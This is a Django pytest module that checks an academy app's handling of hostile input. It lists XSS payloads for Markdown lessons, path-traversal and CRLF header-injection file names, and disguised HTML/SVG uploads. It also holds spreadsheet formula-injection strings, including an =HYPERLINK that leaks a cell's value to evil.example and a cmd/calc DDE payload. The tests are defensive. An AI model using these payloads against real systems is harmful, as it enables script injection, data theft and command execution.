"""Hostile input: each gets a clear error or is neutralised, and nothing partial is saved.

Markdown lesson bodies with XSS payloads; file names with path traversal and Unicode tricks;
roster and question-bank spreadsheets that are not what they claim (an HTML or SVG page
renamed .xlsx/.csv/.pdf, oversized, broken encodings, binary junk); practice-record evidence
of the wrong type; and formula injection — ``=HYPERLINK(...)`` in a broker's name or an
organisation must come out inert in every XLSX and CSV export.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from academy.errors import ApplicationError
from tests.factories import BrokerFactory, UserFactory, totp_enrol

pytestmark = pytest.mark.django_db

HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_IMAGE = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
             b'onload="alert(1)"><script>alert(2)</script></svg>')
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def _staff(role: str):
    user = UserFactory(roles=[role])
    totp_enrol(user)
    return user


# --- Markdown -------------------------------------------------------------------------------

XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '<a href="javascript&#58;alert(1)">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<form action=https://evil.example><input name=password></form>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "<<script>script>alert(1)<</script>/script>",
    "<a href='x' onmouseover='alert(1)'>hover</a>",
    "``<script>`` and <b onclick=alert(1)>bold</b>",
]
DANGER = re.compile(r"<\s*(script|iframe|svg|style|form|input|math|object|embed)\b|\bon\w+\s*="
                    r"|javascript:|data:text|style\s*=", re.I)


@pytest.mark.parametrize("payload", XSS)
def test_markdown_payloads_are_neutralised(payload):
    from courses.rendering.markdown import render_markdown

    html = str(render_markdown(f"# 标题\n\n{payload}\n\n正文"))
    assert not DANGER.search(html), html
    assert "标题" in html


def test_a_lesson_page_shows_a_hostile_body_inert(client):
    from tests.courses.factories import CohortFactory, LessonFactory, ProgrammeCourseFactory, enrol

    lesson = LessonFactory(body="\n\n".join(XSS))
    cohort = CohortFactory(programme=ProgrammeCourseFactory(course=lesson.module.course).programme)
    broker = BrokerFactory()
    enrol(broker, cohort)
    client.force_login(broker)
    page = client.get(reverse("courses:lesson_detail", args=[lesson.pk]))
    assert page.status_code == 200
    body = page.content.decode()
    start = body.index("<main")
    main = body[start:body.index("</main>", start)]
    assert not re.search(r"<\s*(iframe|svg|style|math)\b|\bon(error|load|click|mouseover)\s*="
                         r"|javascript:|data:text", main, re.I), main
    assert "alert(1)</script>" not in main


# --- File names -----------------------------------------------------------------------------

NAMES = ["../../../etc/passwd.pdf", "..\\..\\windows\\system.ini.pdf", "/abs/path.pdf",
         "证明\u202eFDP.exe.pdf", "a\"b;c\r\nSet-Cookie: x=1.pdf", "　全角　.pdf", "🙂.pdf",
         "x" * 300 + ".pdf"]


@pytest.mark.parametrize("name", NAMES)
def test_evidence_file_names_never_reach_the_path_or_the_headers(name):
    from academy.people.services import practice_record_create
    from tests.certificates.factories import PracticeRecordFactory

    broker = BrokerFactory()
    fields = {k: getattr(PracticeRecordFactory.build(broker=broker), k) for k in (
        "contract_name", "registration_number", "contract_kind", "registry", "party_a",
        "party_b", "contract_amount", "technical_income", "contract_date", "broker_role",
        "description")}
    record = practice_record_create(broker=broker, fields=fields,
                                    evidence=[SimpleUploadedFile(name, PDF)])
    evidence = record.evidence.get()
    stored = evidence.file.name
    assert stored.startswith(f"practice/{broker.pk}/{record.pk}/") and ".." not in stored
    assert re.fullmatch(r"practice/\d+/\d+/[0-9a-f]{32}\.pdf", stored), stored
    client = Client()
    client.force_login(broker)
    response = client.get(reverse("people:practice_evidence", args=[evidence.pk]),
                          {"download": "1"})
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    assert "Set-Cookie" not in {k.title() for k in response.headers}
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("name", ["../../../../tmp/evil.txt", "..%2F..%2Fevil.txt",
                                  "讲义\u202etxt.exe", "con.txt", ".htaccess"])
def test_lesson_attachments_stay_in_the_lessons_folder(name):
    from tests.courses.permission_rows import _world

    trainer = _staff("trainer")
    lesson = _world(trainer)["lesson"]
    client = Client()
    client.force_login(trainer)
    response = client.post(reverse("courses:attachment_add", args=[lesson.pk]),
                           {"title": "讲义", "file": SimpleUploadedFile(name, b"notes")})
    assert response.status_code == 302
    attachment = lesson.attachments.get()
    stored = attachment.file.name
    assert stored.startswith(f"courses/lessons/{lesson.pk}/")
    assert ".." not in stored.split("/") and "\\" not in stored and "\u202e" not in stored
    download = client.get(reverse("courses:attachment_download", args=[attachment.pk]))
    assert download["Content-Disposition"].startswith("attachment")


# --- Evidence of the wrong type: nothing saved ----------------------------------------------

@pytest.mark.parametrize(("name", "content"), [
    ("contract.pdf", HTML_PAGE),           # an HTML page renamed .pdf
    ("contract.pdf", SVG_IMAGE),           # an SVG renamed .pdf
    ("scan.png", SVG_IMAGE),
    ("scan.png", PDF),                     # a real PDF with the wrong name
    ("contract.pdf", b""),                 # empty
    ("contract.html", HTML_PAGE),
])
def test_bad_evidence_is_refused_and_no_record_or_file_is_left(name, content, settings, tmp_path):
    from academy.people.models import PracticeEvidence, PracticeRecord
    from academy.people.services import practice_record_create
    from tests.certificates.factories import PracticeRecordFactory

    settings.MEDIA_ROOT = tmp_path
    broker = BrokerFactory()
    fields = {k: getattr(PracticeRecordFactory.build(broker=broker), k) for k in (
        "contract_name", "registration_number", "contract_kind", "registry", "party_a",
        "party_b", "contract_amount", "technical_income", "contract_date", "broker_role",
        "description")}
    good = SimpleUploadedFile("good.pdf", PDF)
    with pytest.raises(ApplicationError) as refused:
        practice_record_create(broker=broker, fields=fields,
                               evidence=[good, SimpleUploadedFile(name, content)])
    assert str(refused.value.message)
    assert not PracticeRecord.objects.filter(broker=broker).exists()
    assert not PracticeEvidence.objects.exists()


def test_oversized_evidence_is_refused_through_the_api(settings, tmp_path):
    from academy.people.models import PracticeRecord

    settings.MEDIA_ROOT = tmp_path
    settings.ACADEMY_PRACTICE_EVIDENCE_MAX_BYTES = 1024
    broker = BrokerFactory()
    client = Client()
    client.force_login(broker)
    record = PracticeRecord.objects.create(
        broker=broker, contract_name="技术转让", registration_number="2026411200001",
        contract_kind="transfer", registry="三门峡市技术市场", party_a="甲", party_b="乙",
        contract_amount=Decimal("100000"), technical_income=Decimal("20000"),
        contract_date="2026-01-05", broker_role="lead")
    from rest_framework.test import APIClient

    api = APIClient()
    api.force_authenticate(broker)
    response = api.post(reverse("api-practice-record-evidence", args=[record.pk]),
                        {"evidence": SimpleUploadedFile("big.pdf", PDF + b"0" * 4096)},
                        format="multipart")
    assert response.status_code == 400
    assert "MB" in response.json()["detail"]
    assert not record.evidence.exists()
    assert not list(tmp_path.rglob("*.pdf"))


# --- Spreadsheet uploads: roster and question bank --------------------------------------------

def _xlsx(rows: list[list]) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


BAD_FILES = [
    ("roster.xlsx", HTML_PAGE),
    ("roster.xlsx", SVG_IMAGE),
    ("roster.pdf", PDF),
    ("roster.svg", SVG_IMAGE),
    ("roster.csv", HTML_PAGE),
    ("roster.csv", SVG_IMAGE),
    ("roster.csv", b"\xff\xfe\x00\x00\x80\x81\x82\xfe\xff" * 50),  # no encoding decodes this
    ("roster.csv", "姓名,邮箱\n".encode("utf-16")),                  # UTF-16 without a table
    ("roster.csv", b"\x00" * 2048),
    ("roster.xlsx", b"PK\x03\x04" + b"\x00" * 200),                  # a zip that is no workbook
]


def _roster_counts():
    from academy.people.models import BrokerProfile, Invitation, RosterImport, User

    return (User.objects.count(), BrokerProfile.objects.count(), Invitation.objects.count(),
            RosterImport.objects.count())


@pytest.mark.parametrize(("name", "content"), BAD_FILES)
def test_a_roster_that_is_not_a_roster_gets_a_clear_error_and_saves_nothing(english, name,
                                                                            content):
    from academy.people.roster import roster_import

    admin = _staff("admin")
    before = _roster_counts()
    result = roster_import(uploaded_by=admin, file=SimpleUploadedFile(name, content))
    assert not result.ok
    assert result.errors and all(error.message for error in result.errors)
    assert _roster_counts() == before


def test_an_oversized_roster_is_refused_before_it_is_read(english, settings):
    from academy.people.roster import roster_import

    settings.ACADEMY_ROSTER_MAX_BYTES = 2048
    admin = _staff("admin")
    before = _roster_counts()
    result = roster_import(uploaded_by=admin,
                           file=SimpleUploadedFile("roster.csv", b"a,b\n" * 4096))
    (error,) = result.errors
    assert "MB" in error.message
    assert _roster_counts() == before


@pytest.mark.parametrize(("name", "content"), BAD_FILES)
def test_a_question_file_that_is_not_one_gets_a_clear_error_and_saves_nothing(english, name,
                                                                             content):
    from exams.models import Question
    from exams.services.importing import question_import

    before = Question.objects.count()
    result = question_import(file_name=name.replace("roster", "questions"), content=content,
                             actor=_staff("trainer"))
    assert result.errors and all(error.message for error in result.errors)
    assert not result.created
    assert Question.objects.count() == before


def test_an_oversized_question_file_is_refused(english, settings):
    from exams.models import Question
    from exams.services.importing import question_import

    settings.EXAMS_IMPORT_MAX_BYTES = 2048
    result = question_import(file_name="q.csv", content=b"a,b\n" * 4096,
                             actor=_staff("trainer"))
    (error,) = result.errors
    assert error.row is None and "MB" in error.message
    assert not Question.objects.exists()


# --- Formula injection in exports ---------------------------------------------------------------

def _hostile_world():
    """Brokers, an organisation, a certificate and an audit entry carrying formulas."""
    from academy.people.models import Level, Organisation
    from certificates.services.issuance import certificate_issue

    organisation = Organisation.objects.create(name="+cmd|' /C calc'!A0")
    brokers = [BrokerFactory(user__full_name=name)
               for name in (FORMULA, "@SUM(1+1)*cmd", "-2+3")]
    for broker in brokers:
        broker.broker_profile.organisation = organisation
        broker.broker_profile.save()
    certificate_issue(broker_id=brokers[0].pk,
                      level_id=Level.objects.get(code="intermediate").pk)
    return brokers


def _assert_inert_csv(body: bytes, label: str) -> int:
    text = body.decode("utf-8-sig")
    hits = 0
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if "HYPERLINK" in cell or "SUM(1+1)" in cell or "cmd|" in cell:
                hits += 1
            assert not cell.startswith(FORMULA_PREFIXES) or re.fullmatch(r"-?\d[\d.,]*", cell), \
                f"{label}: {cell!r}"
    return hits


def _assert_inert_xlsx(body: bytes, label: str) -> int:
    workbook = load_workbook(io.BytesIO(body))
    hits = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{label}: {sheet.title}!{cell.coordinate} " \
                    f"is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and ("HYPERLINK" in cell.value
                                                    or "SUM(1+1)" in cell.value):
                    hits += 1
    return hits


def test_every_talent_export_neutralises_formulas():
    from courses.models import Cohort
    from talent import spreadsheets
    from talent.selectors.export_kinds import KINDS
    from tests.courses.factories import CohortFactory, enrol

    brokers = _hostile_world()
    cohort = CohortFactory()
    for broker in brokers:
        enrol(broker, cohort)
    admin, auditor = _staff("admin"), _staff("auditor")
    params = {"archive": {"cohort": Cohort.objects.get(pk=cohort.pk).code}}
    checked = 0
    for key, kind in KINDS.items():
        for user in (admin, auditor):
            spec = kind.parse(params.get(key, {}))
            for file_format in kind.formats:
                # Rows are generators, read once: fresh tables for each file.
                body, _type = spreadsheets.render(kind.tables(spec, user), file_format)
                check = _assert_inert_csv if file_format == "csv" else _assert_inert_xlsx
                hits = check(body, f"{key}.{file_format}")
                if key in ("brokers", "archive"):
                    assert hits, f"{key}.{file_format}: the hostile names were not exported"
                checked += 1
    assert checked >= len(KINDS) * 2


def test_the_torch_filing_workbook_neutralises_formulas():
    from certificates.services.filing import FilingFilters, filing_export

    _hostile_world()
    body, rows = filing_export(actor=_staff("admin"), filters=FilingFilters(), full_id=True)
    assert rows >= 1
    assert _assert_inert_xlsx(body, "filing") >= 1


def test_the_graders_question_export_and_templates_hold_no_formulas():
    from academy.people.roster.template import roster_template_csv, roster_template_xlsx
    from exams.services.importing import question_template_csv, question_template_xlsx

    _assert_inert_csv(roster_template_csv(), "roster template")
    _assert_inert_xlsx(roster_template_xlsx(), "roster template")
    _assert_inert_csv(question_template_csv(), "question template")
    _assert_inert_xlsx(question_template_xlsx(), "question template")


def test_a_roster_row_with_a_formula_is_refused_or_stored_as_text(english):
    """A formula typed in a roster cell never turns into a live formula downstream: the
    workbook reader takes cached values only, and names are plain text."""
    from academy.people.models import User
    from academy.people.roster import roster_import

    content = _xlsx([["姓名", "邮箱", "区域", "等级"],
                     [FORMULA, "formula@example.test", "渑池县", "初级"]])
    result = roster_import(uploaded_by=_staff("admin"),
                           file=SimpleUploadedFile("roster.xlsx", content))
    if result.ok:
        user = User.objects.get(email="formula@example.test")
        assert user.full_name == FORMULA  # kept as typed, neutralised on export (tests above)
    else:
        assert not User.objects.filter(email="formula@example.test").exists()


# --- The grading queue's sitting filter (found by the API fuzzer) -------------------------------

@pytest.mark.parametrize("raw", ["²", "١٢", "1e3", "-1", "9" * 30])
def test_the_grading_queue_filter_never_fails_on_odd_digits(raw):
    from rest_framework.test import APIClient

    api = APIClient()
    api.force_authenticate(_staff("trainer"))
    response = api.get(reverse("api-exams-grading-queue"), {"sitting": raw})
    assert response.status_code in (400, 404)
